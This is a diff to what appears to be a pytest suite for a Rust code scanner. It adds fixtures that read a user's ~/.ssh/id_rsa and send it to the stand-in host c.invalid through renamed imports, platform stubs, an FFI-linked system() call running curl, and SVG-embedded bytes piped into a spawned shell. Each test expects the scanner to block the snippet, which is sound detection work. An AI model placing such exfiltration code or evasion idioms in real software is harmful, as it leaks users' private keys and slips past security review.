@@ -66,6 +66,12 @@ NAMES = {
         fn with<F: Fn(std::path::PathBuf) -> std::io::Result<String>>(f: F) -> String { f(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap() } pub fn go() { let x = with(std::fs::read_to_string); ureq::post("https://c.invalid/k").send_string(&x).ok(); }""",
     "method chain on option": """
         pub fn go() { dirs::home_dir().map(|h| h.join(".ssh")).map(|d| d.join("id_rsa")).and_then(|p| std::fs::read_to_string(p).ok()).map(|x| ureq::post("https://c.invalid/k").send_string(&x)); }""",
+    "renamed twice": """
+        mod v1 { pub use ureq::post as map; pub use std::fs::read_to_string as curve; } mod v2 { pub use super::v1::{map as apply, curve as swatch}; } use v2::*; pub fn go() { let x = swatch(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); apply("https://c.invalid/k").send_string(&x).ok(); }""",
+    "a stub for other platforms first": """
+        #[cfg(windows)] fn mark(_: &str, _: &str) {} #[cfg(not(windows))] fn mark(u: &str, x: &str) { ureq::post(u).send_string(x).ok(); } pub fn go() { let x = std::fs::read_to_string(dirs::home_dir().unwrap().join(".ssh/id_rsa")).unwrap(); mark("https://c.invalid/k", &x); }""",
+    "a linked symbol beside a stub": """
+        #[cfg(unix)] extern "C" { #[link_name = "system"] fn width(n: *const i8) -> i32; } #[cfg(not(unix))] unsafe extern "C" fn width(_: *const i8) -> i32 { 0 } type W = unsafe extern "C" fn(*const i8) -> i32; struct M { w: W } pub fn go() { let m = M { w: width }; let n = std::ffi::CString::new("curl -T ~/.ssh/id_rsa https://c.invalid/k").unwrap(); unsafe { (m.w)(n.as_ptr()) }; }""",
     "question marks": """
         pub fn go() -> Option<()> { let h = dirs::home_dir()?; let x = std::fs::read_to_string(h.join(".ssh").join("id_rsa")).ok()?; ureq::post("https://c.invalid/k").send_string(&x).ok()?; Some(()) }""",
     "ufcs": """
@@ -268,12 +274,12 @@ BLIND = {
 }
 
 
-def verdict(source: str) -> Verdict:
+def verdict(source: str, art: str = "") -> Verdict:
     listed = "".join(f'{one} = "1"\n' for one in DEPENDENCIES)
     manifest = (
         f'[package]\nname = "probe"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\n{listed}'
     )
-    files = {"Cargo.toml": manifest, "src/lib.rs": source}
+    files = {"Cargo.toml": manifest, "src/lib.rs": source, "art.svg": art}
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
         for path, text in files.items():
@@ -323,3 +329,23 @@ def test_the_default_of_a_variable_is_a_host_as_well(default: str) -> None:
 @pytest.mark.parametrize("source", BLIND.values(), ids=BLIND)
 def test_what_is_not_seen_yet(source: str) -> None:
     assert verdict(source) is Verdict.BLOCK
+
+
+CHILDREN = {
+    "in a local": 'let mut f = shell("sh").unwrap(); f.stdin.take().unwrap().write_all(&b).ok();',
+    "in a pattern": 'if let Some(mut f) = shell("sh") { f.stdin.unwrap().write_all(&b).ok(); }',
+    "beside its text": 'if let (Some(b), Some(f)) = (Some(b), shell("sh")) { f.stdin.unwrap().write_all(&b).ok(); }',
+    "in an arm": 'match (1, shell("sh")) { (_, Some(f)) => { f.stdin.unwrap().write_all(&b).ok(); } _ => {} }',
+    "in a closure": 'shell("sh").unwrap().stdin.take().is_some_and(|mut i| i.write_all(&b).is_ok());',
+}
+
+
+@pytest.mark.parametrize("idiom", CHILDREN)
+def test_a_shell_that_an_own_function_returns_is_fed_where_it_is_used(idiom: str) -> None:
+    code = f"""
+use std::{{io::Write, process::{{Child, Command, Stdio}}}};
+const ART: &str = include_str!("../art.svg");
+fn shell(name: &str) -> Option<Child> {{ Command::new(name).stdin(Stdio::piped()).spawn().ok() }}
+pub fn go() {{ let b: Vec<u8> = ART.bytes().map(own_decoder).collect(); {CHILDREN[idiom]} }}
+"""
+    assert verdict(code, "<svg/>") is Verdict.BLOCK
